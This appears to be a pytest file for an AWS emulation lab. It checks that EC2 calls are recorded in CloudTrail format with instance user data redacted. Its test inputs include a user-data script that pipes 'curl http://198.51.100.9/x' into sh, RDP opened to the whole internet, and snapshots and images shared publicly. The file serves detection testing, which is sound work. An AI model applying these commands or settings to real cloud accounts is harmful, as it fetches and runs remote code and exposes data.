"""EC2 calls made in the forms the Stratus logs do not show are recorded in EC2's CloudTrail shape too."""

from __future__ import annotations

import base64
import json

import pytest

from cloudwarden.lab.server import Lab
from tests.lab.conftest import disk_records, only

pytestmark = pytest.mark.lab

REMOVED = "<sensitiveDataRemoved>"


def test_other_forms_of_the_calls_rules_read(lab: Lab) -> None:
    ec2 = lab.aws_client("ec2")
    vpc = ec2.describe_vpcs()["Vpcs"][0]["VpcId"]
    group = ec2.create_security_group(GroupName="web", Description="web", VpcId=vpc)["GroupId"]
    ec2.authorize_security_group_ingress(
        GroupId=group,
        IpPermissions=[
            {
                "IpProtocol": "tcp",
                "FromPort": 3389,
                "ToPort": 3389,
                "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
                "Ipv6Ranges": [{"CidrIpv6": "::/0"}],
            }
        ],
    )
    ec2.create_key_pair(KeyName="ops")
    instance = ec2.run_instances(
        ImageId="ami-12345678",
        MinCount=1,
        MaxCount=1,
        KeyName="ops",
        SecurityGroupIds=[group],
        UserData="#!/bin/sh\ncurl http://198.51.100.9/x | sh",
    )["Instances"][0]["InstanceId"]
    ec2.modify_instance_attribute(InstanceId=instance, Attribute="userData", Value="IyEvYmluL3NoCg==")
    volume = ec2.create_volume(Size=1, AvailabilityZone="us-east-1a")["VolumeId"]
    snapshot = ec2.create_snapshot(VolumeId=volume)["SnapshotId"]
    ec2.modify_snapshot_attribute(
        SnapshotId=snapshot, Attribute="createVolumePermission", OperationType="add", GroupNames=["all"]
    )
    image = ec2.create_image(InstanceId=instance, Name="golden")["ImageId"]
    ec2.modify_image_attribute(ImageId=image, Attribute="launchPermission", OperationType="add", UserGroups=["all"])
    lab.client.flush()
    records = disk_records(lab.state_dir)

    ingress = only(records, "AuthorizeSecurityGroupIngress")["requestParameters"]
    assert ingress == {
        "groupId": group,
        "ipPermissions": {
            "items": [
                {
                    "ipProtocol": "tcp",
                    "fromPort": 3389,
                    "toPort": 3389,
                    "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]},
                    "ipv6Ranges": {"items": [{"cidrIpv6": "::/0"}]},
                    "groups": {},
                    "prefixListIds": {},
                }
            ]
        },
    }
    run = only(records, "RunInstances")["requestParameters"]
    assert run["instancesSet"] == {
        "items": [{"imageId": "ami-12345678", "minCount": 1, "maxCount": 1, "keyName": "ops"}]
    }
    assert run["groupSet"] == {"items": [{"groupId": group}]}
    assert run["userData"] == REMOVED
    # SigmaHQ's aws_ec2_startup_script_change matches requestParameters.attribute: userData.
    assert only(records, "ModifyInstanceAttribute")["requestParameters"] == {
        "instanceId": instance,
        "attribute": "userData",
        "value": REMOVED,
    }
    assert only(records, "ModifySnapshotAttribute")["requestParameters"] == {
        "snapshotId": snapshot,
        "createVolumePermission": {"add": {"items": [{"group": "all"}]}},
        "attributeType": "CREATE_VOLUME_PERMISSION",
    }
    assert only(records, "ModifyImageAttribute")["requestParameters"] == {
        "imageId": image,
        "launchPermission": {"add": {"items": [{"group": "all"}]}},
        "attributeType": "launchPermission",
    }
    script = base64.b64encode(b"#!/bin/sh\ncurl http://198.51.100.9/x | sh").decode()
    assert script not in json.dumps(records) and "IyEvYmluL3NoCg==" not in json.dumps(records)
